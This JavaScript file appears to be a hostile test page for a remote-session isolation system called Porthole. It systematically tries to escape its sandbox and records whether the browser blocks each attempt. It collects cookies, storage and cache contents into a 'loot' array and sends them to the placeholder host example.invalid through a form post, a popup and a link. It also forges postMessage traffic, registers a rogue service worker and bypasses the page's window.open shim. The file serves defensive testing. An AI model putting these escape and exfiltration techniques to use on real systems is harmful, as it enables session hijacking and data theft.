// A device page that tries to leave its session (see hostile.go): every
// route from the device origin towards the session window (shell origin),
// its secrets, signaling, the app and other sessions. Every attempt records
// its outcome in window.__evil.attempts; the CSP violations the browser
// reports are collected as they come; everything the page could read is
// gathered in window.__evil.loot, as an attacker would before sending it
// out. window.__evilPopups() tries what needs a user gesture (popups).
"use strict";
(function () {
  const out = { violations: [], attempts: {}, loot: [], done: false, popupsDone: false };
  window.__evil = out;
  const show = () => { document.getElementById("results").textContent = JSON.stringify(out, null, 2); };
  document.addEventListener("securitypolicyviolation", (e) => {
    out.violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, disposition: e.disposition });
    show();
  });
  const t = document.getElementById("targets").dataset;
  const str = (v) => { try { return typeof v === "string" ? v : JSON.stringify(v); } catch (e) { return String(v); } };
  const loot = (where, v) => { if (v !== undefined && v !== null && v !== "") out.loot.push(where + ": " + str(v).slice(0, 4000)); };
  const record = (name, p) => Promise.resolve().then(p).then(
    (v) => { out.attempts[name] = { ok: true, value: str(v).slice(0, 300) }; show(); },
    (e) => { out.attempts[name] = { ok: false, error: String(e && e.name) + ": " + String(e && e.message) }; show(); });
  const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
  // The session window's origin, as any page of the device origin can tell.
  const shell = location.protocol + "//shell-" + location.host;
  const ws = (url, protocols) => new Promise((resolve, reject) => {
    let s;
    try { s = new WebSocket(url, protocols); } catch (e) { reject(e); return; }
    s.onopen = () => { s.close(); resolve("open"); };
    s.onerror = () => reject(new Error("error"));
    setTimeout(() => reject(new Error("timeout")), 3000);
  });
  // The relay frame: a sibling of this frame inside the session window,
  // same-origin with us (SECURITY.md says so).
  const relay = () => {
    for (let i = 0; i < parent.frames.length; i++) {
      try { if (parent.frames[i].location.pathname === "/__t/relay.html") return parent.frames[i]; } catch (e) { /* cross-origin */ }
    }
    return null;
  };

  const attempts = [
    // 1. The app's API, with the technician's cookies if the browser would send them.
    record("appAPI", () => fetch(t.api, { credentials: "include" }).then((r) => r.status + " " + r.type)),
    // 2. Another session's origin: by fetch, and by a frame whose document we try to read.
    record("otherSessionFetch", () => fetch(t.other + "/__t/sw.js", { credentials: "include" }).then((r) => r.text())),
    record("otherSessionFrame", () => new Promise((resolve, reject) => {
      const f = document.createElement("iframe");
      f.hidden = true;
      f.src = t.other + "/";
      document.body.append(f);
      setTimeout(() => { try { resolve(f.contentWindow.document.body.innerHTML); } catch (e) { reject(e); } }, 500);
    })),
    // 3. A form posted off the device, into a hidden frame.
    record("formPost", () => new Promise((resolve) => {
      const fm = document.createElement("form");
      fm.method = "post";
      fm.action = "http://example.invalid/steal";
      fm.target = "sink";
      const i = document.createElement("input");
      i.name = "loot";
      i.value = document.cookie;
      fm.append(i);
      document.body.append(fm);
      fm.submit();
      setTimeout(() => resolve("submitted"), 300);
    })),
    // 4. A cookie for the parent domain, to reach every other session.
    record("parentCookie", () => {
      const parentDomain = location.hostname.split(".").slice(1).join(".");
      document.cookie = "tossed=1; domain=" + parentDomain + "; path=/";
      document.cookie = "tossed_dot=1; domain=." + parentDomain + "; path=/";
      return document.cookie.includes("tossed") ? "set: " + document.cookie : "refused: " + document.cookie;
    }),
    // 5. The top window: navigate it, read it, script it.
    record("topNavigation", () => {
      if (window.top === window) throw new Error("alone in its tab: no other top window");
      window.top.location.href = "http://example.invalid/phish";
      return "navigated";
    }),
    record("parentDocument", () => parent.document.body.innerHTML),
    record("topLocationRead", () => top.location.href),
    record("parentSessionStorage", () => str(Object.entries(parent.sessionStorage))),
    record("parentLocalStorage", () => str(Object.entries(parent.localStorage))),
    record("opener", () => { if (window.opener) return window.opener.document.body.innerHTML; throw new Error("no opener"); }),
    // 6. document.domain, to become same-origin with the session window.
    record("documentDomain", () => {
      const before = document.domain;
      document.domain = location.hostname.split(".").slice(1).join(".");
      if (document.domain === before) throw new Error("document.domain unchanged: " + before);
      return parent.document.body.innerHTML;
    }),
    // 7. The page's own storage: does the session leave anything there?
    record("ownStorage", async () => {
      loot("sessionStorage", Object.entries(sessionStorage));
      loot("localStorage", Object.entries(localStorage));
      loot("cookie", document.cookie);
      const dbs = indexedDB.databases ? await indexedDB.databases() : [];
      loot("indexedDB", dbs);
      const names = await caches.keys();
      for (const n of names) {
        const c = await caches.open(n);
        for (const req of await c.keys()) loot("cache " + n + " " + req.url, await (await c.match(req)).text());
      }
      return sessionStorage.length + localStorage.length + dbs.length + " items, caches " + names.join(",");
    }),
    // 8. The relay frame, via parent.frames: read it, and forge its
    // messages to the session window.
    record("relayFrame", () => {
      const r = relay();
      if (!r) throw new Error("no relay frame found");
      loot("relay document", r.document.documentElement.outerHTML);
      loot("relay location", r.location.href);
      loot("relay navigation entry", r.performance.getEntriesByType("navigation").map((e) => e.name));
      loot("relay history", r.history.length);
      return r.location.pathname;
    }),
    // To speak in the relay's name, code must run in the relay's realm.
    record("relayEval", () => relay().eval("parent.document.body.innerHTML")),
    record("relayFunction", () => new (relay().Function)("return parent.document.body.innerHTML")()),
    record("relayScript", () => new Promise((resolve, reject) => {
      // A script of the device, which the worker would carry, in the relay.
      const r = relay();
      for (const src of ["/static/forge.js", null]) {
        const s = r.document.createElement("script");
        if (src) s.src = src; else s.textContent = "window.__forged = 'inline'; parent.postMessage({type: 'porthole.ended', reason: 'client'}, '*');";
        r.document.body.append(s);
      }
      setTimeout(() => (r.__forged ? resolve("ran in the relay: " + r.__forged) : reject(new Error("no script ran in the relay"))), 1000);
    })),
    // From our own window, in the relay's words.
    record("forgeFromOwnWindow", () => new Promise((resolve, reject) => {
      const mc = new MessageChannel();
      mc.port1.onmessage = (e) => resolve("answered: " + str(e.data).slice(0, 100));
      for (const m of [{ type: "porthole.ended", reason: "client" }, { type: "porthole.relay.ready", error: "forged" }, { type: "porthole.wiped" },
        { type: "porthole.session", expires: 1 }]) parent.postMessage(m, "*");
      parent.postMessage({ type: "porthole.fetch", method: "GET", target: "/api/status", headers: [] }, "*", [mc.port2]);
      setTimeout(() => reject(new Error("no answer")), 3000);
    })),
    record("forgeToWorker", () => {
      // The worker takes the session's state from the relay only.
      navigator.serviceWorker.controller.postMessage({ type: "porthole.ended", reason: "forged" });
      navigator.serviceWorker.controller.postMessage({ type: "porthole.relay" });
      navigator.serviceWorker.controller.postMessage({ type: "porthole.session", expires: 1 });
      return fetch("/api/status").then((r) => "still served: " + r.status);
    }),
    // The residual SECURITY.md names: the relay is same-origin with us, so
    // we can listen to what the worker tells it — requests of this very
    // session, which we could make ourselves.
    record("interceptRelay", () => new Promise((resolve) => {
      const r = relay();
      let n = 0;
      r.navigator.serviceWorker.addEventListener("message", (e) => { if (e.data && e.data.type === "porthole.fetch") n++; });
      fetch("/api/status").then(() => setTimeout(() => resolve("saw " + n + " of the worker's requests"), 200));
    })),
    // 9. The session window's BroadcastChannel, and one of our own.
    record("broadcastChannel", () => new Promise((resolve) => {
      const got = [];
      const bc = new BroadcastChannel("porthole.bar");
      bc.onmessage = (e) => got.push(e.data);
      bc.postMessage({ type: "hello" });
      bc.postMessage({ type: "end" });
      setTimeout(() => { bc.close(); resolve(got.length ? "heard " + str(got) : "nothing"); }, 1000);
    })),
    // 10. A service worker of our own, to take over the origin.
    record("registerWorker", () => navigator.serviceWorker.register("/static/evil-sw.js", { scope: "/" }).then((reg) => "registered " + (reg.installing || reg.waiting || reg.active).scriptURL)),
    record("registerWorkerOwnScope", () => navigator.serviceWorker.register("/static/evil-sw.js").then((reg) => "registered " + (reg.installing || reg.waiting || reg.active).scriptURL)),
    record("workerAfter", () => navigator.serviceWorker.getRegistration("/").then((reg) => reg && reg.active && reg.active.scriptURL)),
    // 11. Signaling: the session socket on the session window's origin and
    // on our own, and Porthole's own paths.
    record("shellSocket", () => ws(shell.replace(/^http/, "ws") + "/v1/session", ["porthole.v1", "porthole.token.stolen"])),
    record("ownOriginSocket", () => ws(location.origin.replace(/^http/, "ws") + "/v1/session", ["porthole.v1"])),
    record("shellAuthJSON", () => fetch(shell + "/__t/auth.json").then((r) => r.text())),
    record("ownAuthJSON", () => fetch("/__t/auth.json").then((r) => r.status + " " + r.statusText)),
    record("ownBind", () => fetch("/__t/bind", { method: "POST" }).then((r) => r.status + " " + r.statusText)),
    record("ownTickets", () => Promise.all(["/__t/relay.html", "/__t/sw.js", "/__t/page.js"].map((p) =>
      fetch(p).then((r) => r.text()).then((x) => { loot(p, x); return p + " " + x.length; })))),
    // 12. A named window: the session window has no name we could use,
    // and a frame of ours cannot reach another tab's.
    record("namedWindow", () => {
      const w = window.open("", "porthole");
      if (!w) throw new Error("no reference");
      const href = w.location.href;
      w.close();
      return href;
    }),
  ];
  Promise.allSettled(attempts).then(() => setTimeout(() => { out.done = true; show(); }, 300));

  // What needs a user gesture: popups carrying data, and the session
  // window's origin opened from here.
  window.__evilPopups = () => {
    out.activation = !!(navigator.userActivation && navigator.userActivation.isActive);
    const stolen = encodeURIComponent(out.loot.join("\n").slice(0, 1500));
    // Porthole's page shim sends window.open and links to other origins
    // to an interstitial; an attacker undoes that (the shim is no security
    // boundary): the native open of a fresh frame, and a link whose click
    // no listener of the page sees.
    const spare = document.createElement("iframe");
    spare.style.display = "none";
    document.body.append(spare);
    const open = (...args) => spare.contentWindow.open.call(window, ...args);
    // A popup uses up the click: the session window's origin first.
    const p = [
      record("openShellWindow", () => new Promise((resolve, reject) => {
        const w = open(shell + "/", "_blank");
        if (!w) { reject(new Error("no reference")); return; }
        setTimeout(() => {
          try { resolve("closed=" + w.closed + " body: " + w.document.body.innerHTML); } catch (e) { reject(new Error("closed=" + w.closed + " " + e.name)); }
        }, 1500);
      })),
      record("popupCarryingLoot", () => {
        // Inside the session window, window.open gives no reference back
        // (its COOP): the popup may still open, carrying the URL.
        const w = open("http://example.invalid/?loot=" + stolen, "_blank");
        return w ? "opened, with a reference" : "opened or blocked, no reference";
      }),
      record("linkCarryingLoot", () => {
        const a = document.createElement("a");
        a.href = "http://example.invalid/?loot=" + stolen;
        a.target = "_blank";
        a.click(); // not in the document: no listener of it sees the click

        return "clicked";
      }),
    ];
    return Promise.allSettled(p).then(() => { out.popupsDone = true; show(); return true; });
  };
})();
